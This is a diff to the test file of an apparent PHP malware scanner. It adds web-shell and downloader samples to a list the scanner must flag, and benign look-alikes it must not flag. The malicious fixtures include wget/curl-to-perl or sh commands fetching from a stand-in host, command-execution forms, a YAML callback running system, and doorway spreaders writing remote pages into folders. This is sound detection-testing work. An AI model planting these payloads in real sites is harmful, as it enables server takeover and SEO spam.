@@ -16,8 +16,18 @@ const MALICIOUS: [string, string, string][] = [
   ['a command that downloads a script and pipes it to perl', '/var/www/html/e.php', `<?php\necho md5('x');\nsystem("wget -O - example.invalid/s |perl");\n`],
   ['a command that downloads a script to /tmp and runs it with perl', '/var/www/html/f.php', `<html><body>status</body></html>\n<?php\nsystem("wget -O /tmp/b example.invalid/b; perl /tmp/b");\n?>\n`],
   ['curl piped to sh in backticks', '/var/www/html/g.php', "<?php\n$o = `curl -s http://example.invalid/i.sh | sh`;\n"],
-  ['index.php written with what a server named in the file sends for this host, through a writer of the file\'s own', '/var/www/html/h.php', `<?php\n$remote = "http://doorway.example.invalid";\n$host = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$page = fetch($remote . '/tpl.asp?type=index.php&host=' . urlencode($host));\nsave('index.php', $page);\nfunction fetch($u) { return file_get_contents($u); }\nfunction save($p, $d) { $f = fopen($p, 'wb'); fwrite($f, $d); fclose($f); chmod($p, 0777); }\n`],
-  ['index.php opened for writing and given what a server named in the file sends for this host', '/var/www/html/i.php', `<?php\n$srv = "http://doorway.example.invalid/";\n$c = get($srv . 'index.asp?host=' . $_SERVER['HTTP_HOST']);\n$f = fopen("index.php", "wb");\nfwrite($f, $c);\nfclose($f);\nfunction get($u) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); return curl_exec($ch); }\n`],
+  ['index.php written into new folders of random names with what a server named in the file sends for this host, through a writer of the file\'s own', '/var/www/html/h.php', `<?php\n$remote = "http://doorway.example.invalid";\n$host = 'http://' . $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI'];\n$page = fetch($remote . '/tpl.asp?type=index.php&host=' . urlencode($host));\n$dir = substr(md5(mt_rand()), 0, 6);\nmkdir($dir);\nsave($dir . '/index.php', $page);\nfunction fetch($u) { return file_get_contents($u); }\nfunction save($p, $d) { $f = fopen($p, 'wb'); fwrite($f, $d); fclose($f); chmod($p, 0777); }\n`],
+  ['index.php opened for writing in each new folder and given what a server named in the file sends for this host', '/var/www/html/i.php', `<?php\n$srv = "http://doorway.example.invalid/";\n$c = get($srv . 'index.asp?host=' . $_SERVER['HTTP_HOST']);\nfor ($i = 0; $i < 5; $i++) { $d[$i] = 'p' . mt_rand(1000, 9999); mkdir($d[$i]); $f = fopen($d[$i] . "/index.php", "wb"); fwrite($f, $c); fclose($f); }\nfunction get($u) { $ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); return curl_exec($ch); }\n`],
+  ['a command kept in a variable, a download piped to perl, then run (S36A-46)', '/var/www/html/j.php', `<?php\n$c = "wget -O - example.invalid/s.txt | perl";\nsystem($c);\n`],
+  ['a download piped to sh with the address quoted inside the command (S36A-47, -48)', '/var/www/html/k.php', `<?php\npassthru("curl -s \\"http://example.invalid/i.sh\\" | sh");\nsystem("wget -q -O - 'http://example.invalid/s.txt' | perl");\n`],
+  ['a download piped to sh with the host joined in (S36A-50)', '/var/www/html/l.php', `<?php\n$h = 'example.invalid';\nsystem("curl -s http://" . $h . "/i.sh | /bin/sh");\n`],
+  ['cd /tmp, a download, then perl of the file (S36A-57)', '/var/www/html/m.php', `<?php\nexec("cd /tmp; wget example.invalid/b.txt; perl b.txt; rm -f b.txt");\n`],
+  ['a download to /tmp made executable and run as itself (S36A-58)', '/var/www/html/n.php', `<?php\nshell_exec("wget -O /tmp/.b example.invalid/b; chmod +x /tmp/.b; /tmp/.b");\n`],
+  ['a register_globals command form through ?? (S36A-30)', '/var/www/html/o.php', `<form><input name="cmd"></form>\n<?php\npassthru($cmd ?? "id");\n`],
+  ['a register_globals command form in a double-quoted literal (S36A-32)', '/var/www/html/p.php', `<form><input name="cmd"></form>\n<?php\nsystem("$cmd 2>&1");\n`],
+  ['a register_globals command form given itself through stripslashes first (S36A-40)', '/var/www/html/q.php', `<form method="post"><input name="command"></form>\n<?php\n$command = stripslashes($command);\nsystem($command);\n`],
+  ['yaml_parse with a tag callback of system set by element (S36A-24)', '/var/www/html/r.php', `<?php\n$cb = array();\n$cb['!run'] = 'system';\nyaml_parse($_POST['doc'], 0, $n, $cb);\n`],
+  ['a doorway spreader writing index.php into each folder with what its server sends for this host (S36A-71)', '/var/www/html/s.php', `<?php\n$srv = "http://doorway.example.invalid/tpl/";\n$c = file_get_contents($srv . '?host=' . urlencode($_SERVER['HTTP_HOST']));\nforeach (glob($_SERVER['DOCUMENT_ROOT'] . '/*', GLOB_ONLYDIR) as $d) file_put_contents($d . '/index.php', $c);\n`],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -27,6 +37,18 @@ const LOOKALIKES: [string, string, string][] = [
   ['a backup page downloading an archive to /tmp without running it', '/var/www/html/fetchbak.php', `<?php\nsystem("wget -q -O /tmp/site.tgz https://backup.example.com/site.tgz");\necho filesize('/tmp/site.tgz');\n`],
   ['an installer piping Composer\'s installer to php as its instructions say', '/var/www/html/setup.php', `<?php\nsystem("curl -sS https://getcomposer.org/installer | php");\n`],
   ['a static page generator writing index.html from a template fetched from its own API, with the host name', '/var/www/html/gen.php', `<?php\n$api = "https://api.example.com/";\n$tpl = file_get_contents($api . 'page?host=' . urlencode($_SERVER['HTTP_HOST']));\nfile_put_contents('index.html', $tpl);\n`],
+  ['a "tell a friend" page mailing the one address typed, with the visitor\'s name in the text (S36A-1)', '/var/www/html/friend.php', `<?php\n$friend = $_POST['friend_email'];\n$name = $_POST['your_name'];\nif (!preg_match('/^[^@\\s]+@[^@\\s]+$/', $friend)) die('bad');\nmail($friend, "$name recommends an article", "Hello,\\n" . $name . " thought you might like this\\n-- Example", "From: noreply@example.com");\n`],
+  ['a newsletter opt-in mailing the subscriber a confirmation link (S36A-2)', '/var/www/html/optin.php', `<?php\n$email = $_POST['email'];\n$name = $_POST['name'];\n$link = 'https://news.example.com/confirm.php?t=' . bin2hex(random_bytes(16));\nmail($email, 'Please confirm', "Hi $name,\\nplease confirm:\\n" . $link, "From: news@example.com");\n`],
+  ['a status page piping its search cluster\'s health to python\'s JSON tool (S36A-8)', '/var/www/html/health.php', `<?php\necho '<pre>' . htmlspecialchars(shell_exec('curl -s http://127.0.0.1:9200/_cluster/health | python3 -m json.tool')) . '</pre>';\n`],
+  ['a cron feeding a downloaded CSV to the shop\'s importer on stdin (S36A-9)', '/var/www/html/import.php', `<?php\nexec('curl -sf https://feeds.example.com/products.csv | php /var/www/shop/bin/import-products.php --stdin', $out, $rc);\n`],
+  ['a GeoIP update unpacking the download with the application\'s own script (S36A-11)', '/var/www/html/geo.php', `<?php\nsystem("wget -q -O /tmp/geo.tgz https://updates.example.com/geo.tgz; sh /var/www/app/scripts/unpack-geoip.sh /tmp/geo.tgz");\n`],
+  ['a hosting panel installing nvm with its documented https one-liner (S36A-15)', '/var/www/html/panel.php', `<?php\nif ($_POST['action'] === 'install_node' && verify_csrf($_POST['token'])) {\n  $log = shell_exec('curl -fsSL https://raw.githubusercontent.com/nvm-sh/nvm/v0.39.7/install.sh | bash 2>&1');\n}\n`],
+  ['a settings page showing an install one-liner in Markdown in a heredoc (S36A-13)', '/var/www/html/help.php', "<?php\n$help = <<<MD\nRun `curl -fsSL https://agent.example.com/install.sh | sh` on the server.\nMD;\necho $help;\n"],
+  ['a single-file application\'s updater replacing its index.php with the vendor\'s release (S36A-16)', '/var/www/html/update.php', `<?php\n$update_server = "https://updates.example.com/";\n$url = $update_server . 'latest.php?domain=' . urlencode($_SERVER['HTTP_HOST']);\n$release = file_get_contents($url);\nif ($release === false || strpos($release, '<?php') !== 0) die('unreachable');\ncopy('index.php', 'index.php.bak');\nfile_put_contents('index.php', $release);\n`],
+  ['a build helper mapping a "!cmd" tag of its own build.yml to shell_exec (S36A-20)', '/var/www/html/build.php', `<?php\n$callbacks = ['!env' => 'getenv', '!cmd' => 'shell_exec'];\n$build = yaml_parse_file(__DIR__ . '/../build.yml', 0, $n, $callbacks);\n`],
+  ['an IRC bot whose chat commands map to methods, one named system, beside a settings file parsed without callbacks (S36A-21)', '/var/www/html/bot.php', `<?php\nclass Bot {\n  private $commands = ['!help' => 'help', '!sys' => 'system'];\n  function __construct($f) { $this->cfg = yaml_parse_file($f); }\n  function system() { return PHP_OS_FAMILY; }\n}\n`],
+  ['a status page destructuring the command from its own list of tools (S36A-22)', '/var/www/html/tools.php', `<?php\n$tools = ['uptime' => ['uptime', 'Load'], 'disk' => ['df -h', 'Disk']];\n$sel = $_GET['cmd'] ?? 'uptime';\n[$cmd, $label] = $tools[$sel] ?? $tools['uptime'];\n?>\n<form><select name="cmd"><option>uptime</option></select></form>\n<pre><?php if (isset($cmd)) passthru($cmd); ?></pre>\n`],
+  ['a monitor running each check of its own list, destructured in foreach (S36A-23)', '/var/www/html/monitor.php', `<?php\n$checks = ['load' => ['uptime', 'Load']];\n?>\n<form method="post"><input name="cmd"></form>\n<?php\nforeach ($checks as $key => [$command, $title]) { if (isset($command)) system($command); }\n`],
 ];
 
 describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
@@ -36,7 +58,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 9));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 19));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -44,5 +66,5 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 6));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 18));
 });
